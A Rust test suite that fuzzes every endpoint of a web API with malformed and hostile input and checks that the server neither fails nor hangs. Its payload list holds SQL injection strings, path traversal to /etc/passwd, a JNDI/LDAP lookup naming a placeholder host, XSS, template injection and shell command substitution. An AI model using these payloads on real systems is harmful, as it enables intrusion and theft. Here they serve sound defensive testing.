//! Requests of people who mean harm, made for every address of the description: whatever is put into a path, a
//! parameter, a header or a body, the answer is no error of the server and comes soon.

use std::time::Duration;

use api::Settings;
use axum::Router;
use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Method, Request};
use serde_json::Value;
use tower::ServiceExt;

use crate::door::Door;

/// Seconds that an answer to nonsense may take; the limit of the server is ten, and a debug build is slow.
const ANSWER_S_MAX: u64 = 9;

/// Texts that mean something to databases, file systems, shells, browsers, logs, or parsers of numbers and dates.
const TEXTS: &[&str] = &[
    "",
    " ",
    "' OR '1'='1",
    "'; DROP TABLE portfolios; --",
    "\" UNION SELECT password_hash FROM users --",
    "%' ESCAPE '!",
    "$1",
    "$rows_max",
    "D03' AND pg_sleep(10) --",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "D03/../../runs",
    "D03\0.pdf",
    "\0",
    "\r\nset-cookie: a=b",
    "${jndi:ldap://192.0.2.1/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "`id`; $(id)",
    "-1",
    "0",
    "18446744073709551616",
    "99999999999999999999999999999999999999",
    "1e309",
    "NaN",
    "0x10",
    "2014-02-30",
    "0000-00-00",
    "9999-12-31",
    "-9999-01-01",
    "+262143-12-31",
    "2014-12-31T00:00:00Z",
    "null",
    "true",
    "[]",
    "{}",
    "ǅ\u{202e}\u{0301}\u{feff}",
    "𝒳\u{10ffff}",
    "world~SAP",
    "CASH~EUR",
    "~",
    "EUR",
    "D03",
];

/// What is put behind a path or a parameter as it is, not encoded: wrong encodings.
const RAW: &[&str] =
    &["%", "%f", "%zz", "%ff%fe", "%c0%ae%c0%ae%2f", "%00", "%ed%a0%80", "%25%32%65", "+", "a=b=c", "&&==&"];

/// Bodies that are no body of anything.
fn bodies() -> Vec<Vec<u8>> {
    vec![
        Vec::new(),
        b"{".to_vec(),
        b"null".to_vec(),
        b"[]".to_vec(),
        b"{\"a\":{\"a\":1}}".to_vec(),
        b"{\"__proto__\":{},\"email\":[],\"password\":1e999}".to_vec(),
        "[".repeat(20_000).into_bytes(),
        b"\xff\xfe\x00\x01".to_vec(),
        b"a=b&a=b&%ff=%".to_vec(),
        b"' OR '1'='1".to_vec(),
        vec![b'a'; 60_000],
        vec![b'a'; 70_000],
        vec![0; 1_000],
    ]
}

/// An address of the description with the names of its parameters.
struct Address {
    method: Method,
    path: String,
    parameters: Vec<String>,
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

async fn addresses(router: &Router) -> Vec<Address> {
    let answer = crate::house::ask(router.clone(), "/openapi.json", crate::house::LOCAL, &[]).await;
    let description = answer.json();
    let mut addresses = Vec::new();
    for (path, item) in description["paths"].as_object().expect("paths") {
        for (method, operation) in item.as_object().expect("operations") {
            let parameters = operation["parameters"].as_array().into_iter().flatten();
            let asked = parameters.filter(|parameter| parameter["in"] == "query");
            addresses.push(Address {
                method: method.to_ascii_uppercase().parse().expect("a method"),
                path: path.clone(),
                parameters: asked.filter_map(|parameter| parameter["name"].as_str().map(str::to_owned)).collect(),
            });
        }
    }
    assert!(20 < addresses.len());
    addresses
}

impl Address {
    /// The path with a text, already encoded, in place of one of its parts, and something valid in place of the others.
    fn with(&self, part: usize, text: &str) -> String {
        let mut number = 0;
        let segments = self.path.split('/').map(|segment| {
            if !segment.starts_with('{') {
                return segment.to_owned();
            }
            number += 1;
            if number - 1 == part { text.to_owned() } else { valid(segment).to_owned() }
        });
        segments.collect::<Vec<String>>().join("/")
    }

    fn parts(&self) -> usize {
        self.path.matches('{').count()
    }
}

fn valid(segment: &str) -> &'static str {
    match segment {
        "{portfolio_id}" => "D03",
        "{instrument_id}" => "world~SAP",
        "{base}" => "EUR",
        "{quote}" => "USD",
        "{format}" => "pdf",
        _ => "growth",
    }
}

/// Sends a request and checks that the server neither failed nor slept over it. Texts that are no request at all are
/// refused before they get to the routes.
async fn survives(router: &Router, method: &Method, uri: &str, headers: &[(&str, &[u8])], body: Vec<u8>) {
    let mut request = Request::builder().method(method).uri(uri);
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let peer: std::net::SocketAddr = crate::house::LOCAL.parse().expect("an address");
    let Ok(request) = request.extension(ConnectInfo(peer)).body(Body::from(body)) else { return };
    let shown: String = uri.chars().take(200).collect();
    let answer = tokio::time::timeout(Duration::from_secs(ANSWER_S_MAX), router.clone().oneshot(request)).await;
    let response = answer.unwrap_or_else(|_| panic!("{method} {shown} hangs")).expect("the router answers");
    let status = response.status();
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX).await.expect("the body is there");
    let text = String::from_utf8_lossy(&bytes);
    assert!(!status.is_server_error(), "{method} {shown} is answered with {status}: {text}");
    if status.is_client_error() && method != Method::HEAD {
        let problem: Value = serde_json::from_slice(&bytes).expect("a refusal is a problem");
        let detail = problem["detail"].as_str().unwrap_or_default();
        assert!(detail.len() < 2_000, "{method} {shown}: a refusal does not repeat what was sent: {}", detail.len());
    }
}

async fn open_house() -> (Door, Router) {
    let door = Door::open().await;
    let unlimited = Settings { requests_per_minute: 0, anonymous_requests_per_minute: 0, ..door.settings.clone() };
    let router = door.house.router_with(&unlimited).expect("a router");
    (door, router)
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_path_breaks_the_server() {
    let (_door, router) = open_house().await;
    let long = "a".repeat(8_000);
    for address in addresses(&router).await {
        for part in 0..address.parts() {
            let texts = TEXTS.iter().map(|text| encoded(text)).chain(RAW.iter().map(ToString::to_string));
            for text in texts.chain([long.clone(), encoded(&"é".repeat(1_000))]) {
                survives(&router, &address.method, &address.with(part, &text), &[], Vec::new()).await;
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_parameter_breaks_the_server() {
    let (_door, router) = open_house().await;
    for address in addresses(&router).await.iter().filter(|address| address.method == Method::GET) {
        let path = address.with(usize::MAX, "");
        for name in &address.parameters {
            let texts = TEXTS.iter().map(|text| encoded(text)).chain(RAW.iter().map(ToString::to_string));
            for text in texts.chain(["a".repeat(8_000)]) {
                survives(&router, &address.method, &format!("{path}?{name}={text}"), &[], Vec::new()).await;
            }
        }
        for (name, text) in [("fields", "%00"), ("fields", "%2e%2e%2f"), ("unknown[]", "1"), ("%00", "%ff"), ("", "")] {
            survives(&router, &address.method, &format!("{path}?{name}={text}"), &[], Vec::new()).await;
        }
        let many = format!("{path}?{}", "limit=1&".repeat(5_000));
        survives(&router, &address.method, &many, &[], Vec::new()).await;
        let deep = format!("{path}?fields={}", "a.".repeat(400));
        survives(&router, &address.method, &deep, &[], Vec::new()).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_body_breaks_the_server() {
    let (_door, router) = open_house().await;
    let types: [&[u8]; 6] = [
        b"application/json",
        b"application/x-www-form-urlencoded",
        b"message/rfc822",
        b"multipart/form-data; boundary=",
        b"application/json; charset=utf-16",
        b"\xff",
    ];
    for address in addresses(&router).await {
        let path = address.with(usize::MAX, "");
        // Nobody reads the body of a GET.
        let read = if address.method == Method::GET { 1 } else { types.len() };
        for media_type in &types[..read] {
            for body in bodies() {
                survives(&router, &address.method, &path, &[("content-type", *media_type)], body).await;
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_header_or_a_method_breaks_the_server() {
    let (_door, router) = open_house().await;
    let long = vec![b'a'; 10_000];
    let names = [
        "accept",
        "accept-encoding",
        "accept-language",
        "authorization",
        "content-encoding",
        "content-length",
        "cookie",
        "expect",
        "financr-signature",
        "forwarded",
        "host",
        "idempotency-key",
        "if-none-match",
        "if-modified-since",
        "origin",
        "range",
        "x-forwarded-for",
        "x-request-id",
    ];
    let values: [&[u8]; 9] = [
        b"",
        b"\xff\xfe",
        b"Bearer ",
        b"Bearer \xff",
        b"' OR 1=1 --",
        b"*, *;q=9",
        b"bytes=-1",
        b"18446744073709551616",
        &long,
    ];
    for address in addresses(&router).await {
        let path = address.with(usize::MAX, "");
        // Headers are read in front of the routes, but for those of addresses that take something in.
        let reads_headers = address.method != Method::GET || ["/portfolios", "/health"].contains(&path.as_str());
        for name in names.iter().filter(|_| reads_headers) {
            for value in values {
                survives(&router, &address.method, &path, &[(name, value)], Vec::new()).await;
            }
        }
        for method in ["HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "A"] {
            survives(&router, &method.parse().expect("a method"), &path, &[], b"{}".to_vec()).await;
        }
    }
}
